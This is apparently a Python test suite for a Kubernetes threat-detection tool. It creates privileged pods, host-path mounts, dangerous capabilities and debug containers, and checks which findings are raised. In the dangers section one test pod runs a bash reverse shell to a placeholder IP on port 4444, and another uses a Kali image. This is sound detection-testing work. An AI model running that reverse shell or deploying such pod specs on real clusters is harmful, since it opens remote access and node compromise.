"""What runs: dangerous pods and templates, made and changed in every way there is."""

import json

from objects import CONTAINER, PRIVILEGED, mounting, obj, pod, workload
from policies import patches
from stage import HIGH, LOW, MEDIUM

DEPLOYED = "Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed"
PRIVILEGE = "PrivilegeEscalation:Kubernetes/AnomalousBehavior.WorkloadDeployed!PrivilegedContainer"
MOUNT = "Persistence:Kubernetes/AnomalousBehavior.WorkloadDeployed!ContainerWithSensitiveMount"
CAPABILITY = "PrivilegeEscalation:Kubernetes/Ringwall.DangerousCapability"
NAMESPACES = "PrivilegeEscalation:Kubernetes/Ringwall.HostNamespaces"
EPHEMERAL = "Execution:Kubernetes/Ringwall.EphemeralContainer"
CONTROLLER = "PrivilegeEscalation:Kubernetes/Ringwall.ControllerServiceAccount"
VOLUME = "Persistence:Kubernetes/Ringwall.SensitivePersistentVolume"
RETIRED = {
    "PrivilegeEscalation:Kubernetes/PrivilegedContainer": MEDIUM, "Persistence:Kubernetes/ContainerWithSensitiveMount": MEDIUM,
}

KINDS = ["Deployment", "DaemonSet", "StatefulSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"]


def kinds(stage):
    admin, ann = stage.cluster.admin, stage.cluster.person("ann", "system:masters")
    stranger = stage.cluster.person("stranger", "visitors")
    stage.begin("workloads of every kind")
    with stage.tells("a privileged pod", {PRIVILEGE: HIGH}):
        ann.apply(pod("risky", container=PRIVILEGED))
    with stage.silent("a pod"):
        ann.apply(pod("plain"))
    for kind in KINDS:
        name = kind.lower()
        with stage.silent(f"a {kind}"):
            ann.apply(workload(kind, f"{name}-plain"))
        # The pods that controllers make of it count with it.
        with stage.tells(f"a {kind} with a privileged container", {PRIVILEGE: HIGH}) as act:
            ann.apply(workload(kind, f"{name}-risky", container=PRIVILEGED))
            if kind not in ("CronJob",):
                stage.cluster.until_made(f"{name}-risky", "shop")
        if kind != "CronJob":
            made = [event for event in act.events() if event.get("objectRef", {}).get("resource") == "pods" and event["verb"] == "create"]
            stage.report.check(made, f"a controller made a pod of the {kind}")
        with stage.silent("it, applied again"):
            ann.apply(workload(kind, f"{name}-risky", container=PRIVILEGED))
        if kind not in ("DaemonSet", "Job", "CronJob"):
            with stage.silent("and scaled", after=act):
                ann.kubectl("scale", kind, f"{name}-risky", "--replicas=2", "-n", "shop")
                stage.cluster.until_made(f"{name}-risky", "shop", 2)
        with stage.tells(f"a {kind} with a privileged init container", {PRIVILEGE: HIGH}):
            ann.apply(workload(kind, f"{name}-begins", initContainers=[{**PRIVILEGED, "name": "first"}]))
        admin.kubectl("delete", kind, f"{name}-plain", f"{name}-risky", f"{name}-begins", "-n", "shop", "--wait=false")
    with stage.silent("a privileged pod, refused"):
        status = stranger.https("POST", "/api/v1/namespaces/shop/pods", pod("other", container=PRIVILEGED))
        stage.report.check(status == 403, "a stranger may not")
    with stage.silent("a privileged pod, as a dry run"):
        ann.apply(pod("other", container=PRIVILEGED), flags=["--dry-run=server"])
    with stage.silent("a privileged pod that is not valid"):
        ann.try_kubectl("create", "-f", "-", stdin=json.dumps(pod("Other_", container=PRIVILEGED)))
    with stage.tells("what GuardDuty has retired, asked for", {PRIVILEGE: HIGH, MOUNT: HIGH, **RETIRED}, flags=["--retired"]):
        both = mounting("/etc", container=PRIVILEGED)
        ann.apply(pod("retired", container=both["containers"][0], volumes=both["volumes"]))


def changes(stage):
    ann = stage.cluster.person("ann", "system:masters")
    stage.begin("workloads that are changed")
    path = "/spec/template/spec/containers/0/securityContext"
    risky = workload("Deployment", "web", container=PRIVILEGED)
    patches(
        stage, "a Deployment made privileged", {PRIVILEGE: HIGH}, ann, [workload("Deployment", "web")], "deployment", "web", {
            "json": [{"op": "add", "path": path, "value": {"privileged": True}}],
            "merge": {"spec": risky["spec"]},
            "strategic": {"spec": {"template": {"spec": {"containers": [{"name": "app", "securityContext": {"privileged": True}}]}}}},
        }, namespace=("-n", "shop"),
    )
    mounted = workload("Deployment", "web", **mounting("/var/lib/kubelet"))
    patches(
        stage, "a Deployment that mounts the kubelet's folder", {MOUNT: HIGH}, ann, [workload("Deployment", "web")],
        "deployment", "web", {
            "json": [
                {"op": "add", "path": "/spec/template/spec/volumes", "value": mounted["spec"]["template"]["spec"]["volumes"]},
                {"op": "add", "path": "/spec/template/spec/containers/0/volumeMounts",
                 "value": [{"name": "host", "mountPath": "/host"}]},
            ],
            "merge": {"spec": mounted["spec"]},
            "strategic": {"spec": {"template": {"spec": mounted["spec"]["template"]["spec"]}}},
        }, namespace=("-n", "shop"),
    )
    with stage.tells("a privileged Deployment", {PRIVILEGE: HIGH}) as made:
        ann.apply(risky)
        stage.cluster.until_made("web", "shop")
    with stage.silent("another image, label and environment of what is privileged", after=made):
        ann.kubectl("set", "image", "deployment/web", "app=registry.example/shop:2", "-n", "shop")
        ann.kubectl("label", "deployment", "web", "team=shop", "-n", "shop")
        ann.kubectl("rollout", "restart", "deployment/web", "-n", "shop")
    stage.cluster.admin.kubectl("delete", "deployment", "web", "-n", "shop")


def dangers(stage):
    admin, ann = stage.cluster.admin, stage.cluster.person("ann", "system:masters")
    stage.begin("what is dangerous about a pod")
    numbers = iter(range(1000))

    def made(what, expected, namespace="shop", **spec):
        with stage.tells(what, expected):
            ann.apply(pod(f"danger-{next(numbers)}", namespace, **spec))

    def mounted(path, read_only=False):
        spec = mounting(path, read_only)
        return {"container": spec["containers"][0], "volumes": spec["volumes"]}

    for path in ("/", "/etc", "/root", "/proc", "/var/lib/kubelet", "/etc/kubernetes/manifests"):
        made(f"{path} mounted", {MOUNT: HIGH}, **mounted(path))
        made(f"{path} mounted to be read", {}, **mounted(path, read_only=True))
    made("the runtime's socket mounted to be read", {MOUNT: HIGH}, **mounted("/run/containerd/containerd.sock", read_only=True))
    for path in ("/var/log", "/etc/localtime", "/mnt/data", "/etc/cni/net.d"):
        made(f"{path} mounted", {}, **mounted(path))
    for name in ("SYS_ADMIN", "ALL", "SYS_MODULE", "BPF"):
        made(f"the capability {name}", {CAPABILITY: MEDIUM}, container={
            **CONTAINER, "securityContext": {"capabilities": {"add": [name]}},
        })
    made("a capability that is harmless", {}, container={
        **CONTAINER, "securityContext": {"capabilities": {"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]}},
    })
    made("the node's processes", {NAMESPACES: MEDIUM}, hostPID=True)
    made("the node's network", {NAMESPACES: LOW}, hostNetwork=True)
    made("tools for breaking in", {DEPLOYED: MEDIUM}, container={**CONTAINER, "image": "kalilinux/kali-rolling"})
    made("a reverse shell", {DEPLOYED: MEDIUM}, container={
        **CONTAINER, "command": ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.200/4444 0>&1"],
    })
    made("a wait for a port", {}, container={**CONTAINER, "command": ["sh", "-c", "until nc -z db 5432; do sleep 1; done"]})
    admin.try_kubectl("create", "serviceaccount", "clusterrole-aggregation-controller", "-n", "kube-system")
    made("a controller's identity", {CONTROLLER: HIGH}, "kube-system", serviceAccountName="clusterrole-aggregation-controller")
    admin.try_kubectl("create", "serviceaccount", "addon", "-n", "kube-system")
    made("an add-on's identity", {}, "kube-system", serviceAccountName="addon")

    for path, expected in {"/etc": {VOLUME: HIGH}, "/mnt/disks/1": {}}.items():
        with stage.tells(f"a PersistentVolume of {path}", expected):
            ann.apply(obj("v1", "PersistentVolume", f"volume{path.replace('/', '-')}", spec={
                "capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"], "hostPath": {"path": path},
            }))
    with stage.tells("a container added to a pod that runs", {EPHEMERAL: LOW}):
        ann.kubectl("debug", "plain", "-n", "shop", "--image=busybox", "--attach=false", "--profile=general")
    with stage.tells("a privileged one", {EPHEMERAL: LOW, PRIVILEGE: HIGH}):
        ann.kubectl("debug", "plain", "-n", "shop", "--image=busybox", "--attach=false", "--profile=sysadmin")
    admin.apply(pod("dns", "kube-system"))
    with stage.tells("one in kube-system", {EPHEMERAL: MEDIUM}):
        ann.kubectl("debug", "dns", "-n", "kube-system", "--image=busybox", "--attach=false", "--profile=general")
    with stage.tells("a pod of `kubectl debug node`", {MOUNT: HIGH, PRIVILEGE: HIGH}):
        ann.kubectl("debug", "node/node-1", "-n", "shop", "--image=busybox", "--attach=false", "--profile=sysadmin")


def run(stage):
    stage.cluster.controllers()
    kinds(stage)
    changes(stage)
    dangers(stage)
